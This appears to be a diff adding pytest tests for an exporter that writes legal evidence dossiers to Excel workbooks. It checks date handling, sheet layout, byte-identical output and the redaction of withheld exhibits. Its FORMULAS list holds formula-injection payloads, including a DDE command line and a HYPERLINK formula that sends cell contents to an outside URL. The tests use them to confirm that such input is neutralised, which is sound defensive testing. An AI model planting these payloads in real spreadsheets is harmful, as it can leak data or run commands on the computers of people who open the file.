@@ -1,0 +1,164 @@
+"""The workbook, read back by another reader than its writer's memory."""
+
+from __future__ import annotations
+
+import time
+import zipfile
+from dataclasses import replace
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from evidence_desk.domain.editions import Audience, ExhibitState
+from evidence_desk.exports.cells import excel_date, put
+from evidence_desk.exports.workbook import write_workbook
+from exports.dossiers import ARABIC, JOURNAL_HASH, concordance, dossier, exhibit
+
+FORMULAS = (
+    '=HYPERLINK("http://example.org/?"&A1,"x")',
+    "+1+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1",
+    "=cmd|' /C calc'!A0",
+)
+
+
+def _read(path: Path) -> Workbook:
+    return load_workbook(path)
+
+
+def _table(sheet: Worksheet) -> list[dict[str, object]]:
+    head, *rows = sheet.iter_rows(values_only=True)
+    return [dict(zip(map(str, head), row, strict=True)) for row in rows]
+
+
+@pytest.mark.parametrize(
+    ("language", "sheets"),
+    [
+        ("en", ["Exhibits", "Incidents", "Sections", "Concordance"]),
+        ("fr", ["Pièces", "Incidents", "Plan", "Concordance"]),
+    ],
+)
+def test_each_view_has_its_sheet_frozen_and_filtered(
+    tmp_path: Path, language: str, sheets: list[str]
+) -> None:
+    out = tmp_path / "annex.xlsx"
+    write_workbook(dossier(9, language, concordance=concordance(9)), out)
+    book = _read(out)
+    assert len(book.sheetnames) == 5
+    assert book.sheetnames[1] == sheets[0]
+    for sheet in book.worksheets[1:]:
+        assert sheet.freeze_panes
+        assert sheet.auto_filter.ref == sheet.dimensions
+        assert sheet.print_title_rows
+    assert book["Exhibits" if language == "en" else "Pièces"].max_row == 10
+
+
+def test_dates_are_dates_only_where_the_day_is_known(tmp_path: Path) -> None:
+    out = tmp_path / "annex.xlsx"
+    write_workbook(dossier(9), out)
+    rows = _table(_read(out)["Exhibits"])
+    by_number = {
+        row["Number"] if "Number" in row else next(iter(row.values())): row for row in rows
+    }
+    dates = {
+        value
+        for row in by_number.values()
+        for value in row.values()
+        if isinstance(value, date | datetime)
+    }
+    assert datetime(2010, 9, 21) in dates
+    assert datetime(2010, 11, 3, 5, 40) in dates
+    texts = {value for row in rows for value in row.values() if isinstance(value, str)}
+    assert "2010-09-21/2010-09-22" in texts  # the uncertain ones stay as they were written
+    assert "2009-06~" in texts
+
+
+@given(st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1)))
+def test_every_whole_day_comes_out_as_itself(moment: datetime) -> None:
+    assert excel_date(moment.date().isoformat()) == moment.date()
+    to_the_minute = moment.replace(second=0, microsecond=0)
+    assert excel_date(to_the_minute.isoformat(timespec="minutes")) == to_the_minute
+
+
+@given(
+    st.sampled_from(
+        ["2010", "2010-09", "2010-21", "2010-09-XX", "../2011", "2010-09-21?", "1850-01-01", ""]
+    )
+)
+def test_no_uncertain_date_becomes_a_certain_one(edtf: str) -> None:
+    assert excel_date(edtf) is None
+
+
+@given(st.text(max_size=80), st.sampled_from(["", *"=+-@\t\r"]))
+def test_no_text_ever_becomes_a_formula(text: str, start: str) -> None:
+    sheet = Workbook().active
+    put(sheet["A1"], start + text)
+    assert sheet["A1"].data_type in ("s", "n")
+    assert sheet["A1"].value is None or isinstance(sheet["A1"].value, str)
+    assert sheet["A1"].data_type == "s" or sheet["A1"].value is None
+
+
+def test_formulas_of_strangers_are_texts_after_reading_back(tmp_path: Path) -> None:
+    out = tmp_path / "annex.xlsx"
+    entries = tuple(
+        exhibit(str(at), at, title=text, place=text, description=text, source=text)
+        for at, text in enumerate(FORMULAS, 1)
+    )
+    write_workbook(replace(dossier(0), exhibits=entries, organisation=FORMULAS[0]), out)
+    for sheet in _read(out):
+        for row in sheet.iter_rows():
+            assert all(cell.data_type != "f" for cell in row)
+    with zipfile.ZipFile(out) as packed:
+        for name in packed.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                assert b"<f>" not in packed.read(name)
+
+
+def test_pictures_scripts_and_links_are_there(tmp_path: Path) -> None:
+    out = tmp_path / "annex.xlsx"
+    write_workbook(dossier(9), out, pack_links=True)
+    sheet = _read(out)["Exhibits"]
+    assert len(sheet._images) == 7  # two of nine are recordings of sound
+    texts = {str(cell.value) for row in sheet.iter_rows() for cell in row}
+    assert any(ARABIC in text for text in texts)
+    targets = [cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink]
+    assert targets[0] == "exhibits/0001%20-%20exhibit.jpg"
+    assert len(targets) == 9
+
+
+def test_the_journal_is_anchored(tmp_path: Path) -> None:
+    out = tmp_path / "annex.xlsx"
+    write_workbook(dossier(2), out)
+    about = _read(out).worksheets[0]
+    assert JOURNAL_HASH in {cell.value for row in about.iter_rows() for cell in row}
+
+
+def test_the_same_dossier_gives_the_same_bytes(tmp_path: Path) -> None:
+    write_workbook(dossier(3), tmp_path / "one.xlsx")
+    time.sleep(1.1)  # the clock's second must have moved on
+    write_workbook(dossier(3), tmp_path / "two.xlsx")
+    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()
+    made = _read(tmp_path / "one.xlsx").properties.modified
+    assert made == datetime(2011, 6, 1, 9, 30, tzinfo=UTC).replace(tzinfo=None)
+
+
+def test_a_withheld_exhibit_is_a_number_and_no_more(tmp_path: Path) -> None:
+    secret = "NameOfAWitness"
+    hidden = exhibit(
+        "2", 1, state=ExhibitState.WITHHELD, title=secret, place=secret, name=secret, source=secret
+    )
+    made = replace(dossier(1), audience=Audience.PUBLIC)
+    made = replace(made, exhibits=(*made.exhibits, hidden))
+    for show in (True, False):
+        out = tmp_path / f"{show}.xlsx"
+        write_workbook(replace(made, show_withheld=show), out)
+        with zipfile.ZipFile(out) as packed:
+            assert all(secret.encode() not in packed.read(name) for name in packed.namelist())
+        assert _read(out)["Exhibits"].max_row == (3 if show else 2)
